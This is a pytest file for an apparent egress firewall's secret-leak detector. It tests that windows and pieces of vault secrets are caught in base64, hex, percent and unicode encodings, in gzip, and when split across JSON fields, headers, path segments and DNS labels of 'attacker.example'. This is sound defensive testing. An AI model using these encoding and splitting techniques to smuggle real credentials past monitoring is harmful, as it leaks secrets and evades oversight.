"""A fragment of a vault value is exfiltration: any 16-character window of a value of 32 characters
or more, in every form the guard reads, also cut into pieces across JSON fields, query parameters,
headers, path segments or the labels of a host name (decided before any DNS lookup).

Each case has a control of the same shape that must pass: 15 characters, a window of a short value,
the same pieces of a value that is not in the vault, and windows that are not evidence (a key's
fixed prefix, a JWT's header, a window two values share, alphabet runs, repeated characters).
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
from dataclasses import replace
from urllib.parse import quote

import pytest

from firewall.policy import Reason, Request, Verdict, compile_source
from firewall.proxy.deciding import decide_with_addresses
from firewall.proxy.exfil import carried_secrets
from firewall.proxy.resolver import Resolver
from firewall.redaction import SecretIndex
from firewall.redaction.fragments import WINDOW, fragment_span, ordinary

BODY = "Q7vK2mXz9LpR4tWc8NbY3hJd6FgS1aUe5oIy0rTqHs"  # what tells the key from other keys
SECRET = "sk-proj-" + BODY  # 50 characters
DECOY = "sk-proj-" + "Zb1Yc2Xd3We4Vf5Ug6Th7Si8Rj9Qk0Pl1Om2Nn3Mo4"  # the same shape, not in the vault
SHORT = "gen-" + "h8Ks2Lq9Vw3Zx7Nb4Mc1Pd6"  # 27 characters: found whole only
SHARED_PART = "Xy7Wq2Er9Ty4Ui8Op3As"  # 20 characters two values both hold
TWIN_A = "tok_" + "Mn5Bv1Cx6Zl0Kj" + SHARED_PART + "Gh4Df8Sa2Qw6"
TWIN_B = "tok_" + "Rt3Yu7Io1Pa5Sd" + SHARED_PART + "Fg9Hj3Kl7Zx1"
RUNS = "tok_" + "ABCDEFGHIJKLMNOPQRSTUVWXYZ" + "aaaaaaaaaaaaaaaaaaaa" + "Lk3Jh8Gf2Ds7"
LOWER = "sk-proj-" + "q7vk2mxz9lpr4twc8nby3hjd6fgs1aue5oiy0rtq"  # a key a DNS name can carry whole
DECOY_LOWER = "sk-proj-" + "zb1yc2xd3we4vf5ug6th7si8rj9qk0pl1om2nn3m"
JWT_HEADER = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"
JWT = JWT_HEADER + ".eyJzdWIiOiJhZ2VudCIsImlhdCI6MTcwMDAwMDAwMH0.Tq8Vn3Rz6Ws1Yx4Pb7Kc0Md5Lf2Ng9Hh3Jj6"

INDEX = SecretIndex.build(
    {"openai": SECRET, "dns": LOWER, "short": SHORT, "twin-a": TWIN_A, "twin-b": TWIN_B, "runs": RUNS, "jwt": JWT}
)


def found(*parts: bytes) -> tuple[str, ...]:
    return INDEX.find(b"POST /upload", *parts)


# ---- a window, in every form, anywhere ----

WINDOW_TEXT = BODY[7 : 7 + WINDOW]
FORMS = {
    "raw": lambda w: w.encode(),
    "percent-encoded": lambda w: quote(w, safe="").encode(),
    "json unicode escapes": lambda w: "".join(f"\\u{ord(c):04x}" for c in w).encode(),
    "base64": lambda w: base64.b64encode(w.encode()),
    # "#" differs from the byte before the window in the bits base64 mixes in (a 20-character
    # window is 15 bytes of the value and 2 or more bits of the next)
    "base64, offset 1": lambda w: base64.b64encode(b"#" + w.encode()),
    "base64, offset 2": lambda w: base64.b64encode(b"##" + w.encode()),
    "base64 url-safe in a longer blob": lambda w: base64.urlsafe_b64encode(b"note: " + w.encode() + b" end"),
    "hex, upper case": lambda w: w.encode().hex().upper().encode(),
    "hex, mixed case": lambda w: "".join(c.upper() if i % 3 else c for i, c in enumerate(w.encode().hex())).encode(),
    "broken by a line break": lambda w: (w[:5] + "\n" + w[5:]).encode(),
}


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS.keys())
def test_a_window_of_16_is_found_in_every_form(form):
    assert found(b'{"note": "' + form(WINDOW_TEXT) + b'"}') == ("openai",)


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS.keys())
def test_control_15_characters_in_the_same_form_pass(form):
    assert found(b'{"note": "' + form(WINDOW_TEXT[:-1]) + b'"}') == ()


def test_every_window_is_found_at_every_position():
    """The scan reads the text in 8-byte blocks: no alignment of the window escapes it."""
    start = fragment_span(SECRET)
    for at in range(start, len(SECRET) - WINDOW + 1):
        for pad in range(8):
            assert found(b"." * pad + SECRET[at : at + WINDOW].encode()) == ("openai",), (at, pad)


def test_control_a_window_of_a_value_under_32_characters_passes():
    assert found(SHORT[4 : 4 + WINDOW].encode()) == ()
    assert found(SHORT.encode()) == ("short",)  # whole, it is found as before


def test_a_packed_window_is_found():
    request = Request("POST", "https", "api.example.com", 443, "/upload")
    assert carried_secrets(INDEX, request, gzip.compress(WINDOW_TEXT.encode()), None) == ("openai",)
    assert carried_secrets(INDEX, request, gzip.compress(WINDOW_TEXT[:-1].encode()), None) == ()


# ---- a value cut into pieces shorter than a window ----


def _pieces(value: str, size: int = 11) -> list[str]:
    body = value[fragment_span(value) :]
    return [body[i : i + size] for i in range(0, 3 * size, size)]


def _json_fields(value: str) -> bytes:
    return json.dumps({name: piece for name, piece in zip("abc", _pieces(value), strict=True)}).encode()


def _query(value: str) -> bytes:
    return (
        "/upload?" + "&".join(f"{n}={quote(p, safe='')}" for n, p in zip("abc", _pieces(value), strict=True))
    ).encode()


SPLITS = {"three JSON fields": _json_fields, "three query parameters": _query}


@pytest.mark.parametrize("split", SPLITS.values(), ids=SPLITS.keys())
def test_a_value_split_across_three_fields_is_found(split):
    assert all(len(piece) < WINDOW for piece in _pieces(SECRET))
    assert found(split(SECRET)) == ("openai",)


@pytest.mark.parametrize("split", SPLITS.values(), ids=SPLITS.keys())
def test_control_the_same_split_of_a_value_not_in_the_vault_passes(split):
    assert found(split(DECOY)) == ()


def _request(host: str = "api.example.com", headers: tuple[tuple[str, str], ...] = (), target: str = "/") -> Request:
    return Request("GET", "https", host, 443, target, headers=headers)


@pytest.mark.parametrize("value, expected", [(SECRET, ("openai",)), (DECOY, ())], ids=["secret", "control"])
def test_a_value_split_across_three_headers(value, expected):
    headers = tuple((f"x-part-{n}", piece) for n, piece in enumerate(_pieces(value)))
    assert carried_secrets(INDEX, _request(headers=headers), b"", None) == expected


@pytest.mark.parametrize("value, expected", [(SECRET, ("openai",)), (DECOY, ())], ids=["secret", "control"])
def test_a_value_split_across_path_segments(value, expected):
    target = "/files/" + "/".join(_pieces(value)) + "?x=1"
    assert carried_secrets(INDEX, _request(target=target), b"", None) == expected


def _labels(value: str) -> str:
    return ".".join(_pieces(value, size=8)) + ".attacker.example"


@pytest.mark.parametrize("value, expected", [(LOWER, ("dns",)), (DECOY_LOWER, ())], ids=["secret", "control"])
def test_a_value_split_across_host_labels(value, expected):
    """`q7vk2mxz.9lpr4twc.8nby3hjd.attacker.example`: each label under a window, joined a window
    and more. (DNS names are case-insensitive: a key in mixed case is found in labels only as
    sent, not lower-cased on the way.)"""
    request = _request(host=_labels(value))
    assert carried_secrets(INDEX, request, b"", None) == expected
    claimed = replace(_request(), claimed=(_labels(value) + ":443",))  # a Host header or the TLS SNI
    assert carried_secrets(INDEX, claimed, b"", None) == expected


def test_host_labels_are_refused_before_any_dns_lookup():
    policy = compile_source("host *.attacker.example {\n    allow\n}\n").policy
    asked: list[str] = []

    async def dns(host, port, **_):
        asked.append(host)
        return [(2, 1, 6, "", ("93.184.216.34", port))]

    def decided(host: str):
        request = _request(host=host)
        request = replace(request, secrets=carried_secrets(INDEX, request, b"", None))
        return asyncio.run(decide_with_addresses(policy, request, Resolver(ttl=0, getaddrinfo=dns), 0.0))[0]

    decision = decided(_labels(LOWER))
    assert (decision.verdict, decision.reason, asked) == (Verdict.BLOCK, Reason.EXFILTRATION, [])
    control = decided(_labels(DECOY_LOWER))
    assert (control.verdict, asked) == (Verdict.ALLOW, [_labels(DECOY_LOWER)])


def test_pieces_out_of_order_are_not_found():
    """Documented (threat-model.md): pieces are joined in the order they were sent."""
    pieces = _pieces(SECRET)
    assert found(json.dumps({"c": pieces[2], "b": pieces[1], "a": pieces[0]}).encode()) == ()


# ---- windows that are not evidence ----


def test_control_a_key_prefix_with_a_few_characters_passes():
    """`sk-proj-` and 8 characters: every OpenAI key starts so."""
    assert found(SECRET[:WINDOW].encode()) == ()
    assert found(SECRET[1 : 1 + WINDOW].encode()) == ()


def test_a_jwt_is_found_by_its_signature_not_by_its_header():
    signature = JWT.rsplit(".", 1)[1]
    assert found(signature[3 : 3 + WINDOW].encode()) == ("jwt",)
    assert found(JWT_HEADER.encode() + b".eyJzdWIiOiJhZ2VudCIsImlhdCI6MTcwMDAwMDAwMH0") == ()


def test_a_window_two_values_share_tells_neither():
    assert found(b'{"s": "' + SHARED_PART.encode() + b'"}') == ()
    assert found(TWIN_A[4 : 4 + WINDOW].encode()) == ("twin-a",)
    assert found(TWIN_B[-WINDOW:].encode()) == ("twin-b",)


def test_alphabet_runs_and_repeated_characters_are_not_evidence():
    run, repeated = RUNS[4:30], RUNS[30:50]
    assert found(run.encode()) == () and found(repeated.encode()) == ()
    assert found(RUNS[-WINDOW:].encode()) == ("runs",)  # 4 a's, then 12 characters that tell the value
    assert found(RUNS.encode()) == ("runs",)  # whole, it is found as before


@pytest.mark.parametrize(
    "window",
    [
        "AAAAAAAAAAAAAAAA",
        "abababababababab",
        "ABCDEFGHIJKLMNOP",
        "0123456789abcdef",
        "qwertyuiopasdfgh",
        "aa bb cc dd ee f",
    ],
)
def test_ordinary_windows(window):
    assert ordinary(window.encode())


def test_control_random_windows_are_not_ordinary():
    body = BODY.encode()
    assert not any(ordinary(body[i : i + WINDOW]) for i in range(len(body) - WINDOW + 1))


def test_benign_text_passes():
    text = (
        b"Lorem ipsum dolor sit amet, consectetur adipiscing elit. "
        + base64.b64encode(bytes(range(256)))
        + b" 0123456789abcdefABCDEF "
        + json.dumps({"model": "gpt-4o-mini", "key": "sk-proj-" + "x" * 40, "id": "chatcmpl-1234"}).encode()
        + b" "
        + DECOY.encode()
        + b" Authorization: Bearer sk-firewall-placeholder-not-a-real-key"
    )
    assert found(text) == ()


def test_pieces_at_the_ends_of_long_fields_are_joined():
    """Only the ends of a long field are joined with its neighbours (a window inside one field is
    found in the field itself): a piece at the end of a long field and the start of the next."""
    pieces = _pieces(SECRET)
    body = {"a": "x" * 1000 + pieces[0], "b": pieces[1] + "y" * 1000}
    assert found(json.dumps(body).encode()) == ("openai",)
    control = {"a": "x" * 1000 + _pieces(DECOY)[0], "b": _pieces(DECOY)[1] + "y" * 1000}
    assert found(json.dumps(control).encode()) == ()


def test_a_window_inside_another_values_prefix_tells_neither():
    """A value that holds another one (`Bearer ` and the key): a window they share is not
    evidence, also where only one of them would keep it (`sk-proj-` is the key's prefix)."""
    key = "sk-proj-" + "Vb7Nm2Kl9Jh4Gf6Ds1Az3Xc8Qw5Er0Ty"
    index = SecretIndex.build({"key": key, "header": "Bearer " + key})
    assert index.find(key[:WINDOW].encode()) == ()
    assert index.find(key[10 : 10 + WINDOW].encode()) == ()  # shared: neither is told
    control = SecretIndex.build({"header": "Bearer " + key})
    assert control.find(key[:WINDOW].encode()) == ("header",)


# ---- what is written down: a refused request's row holds no piece either ----


@pytest.mark.parametrize("form", ["raw", "base64", "base64, offset 1"])
def test_a_window_is_masked_where_text_is_written_down(form):
    carried = FORMS[form](WINDOW_TEXT).decode()
    written = INDEX.redact(f"/v1/upload?note=x{carried}y&z=1")
    assert WINDOW_TEXT not in written and carried not in written and "****" in written
    assert written.startswith("/v1/upload?note=x") and written.endswith("&z=1")


def test_control_15_characters_are_written_as_they_are():
    text = f"/v1/upload?note={WINDOW_TEXT[:15]}"
    assert INDEX.redact(text) == text


def test_pieces_that_overlap_are_masked_as_one():
    text = f"a {BODY[5:40]} b"
    assert INDEX.redact(text) == "a **** b"
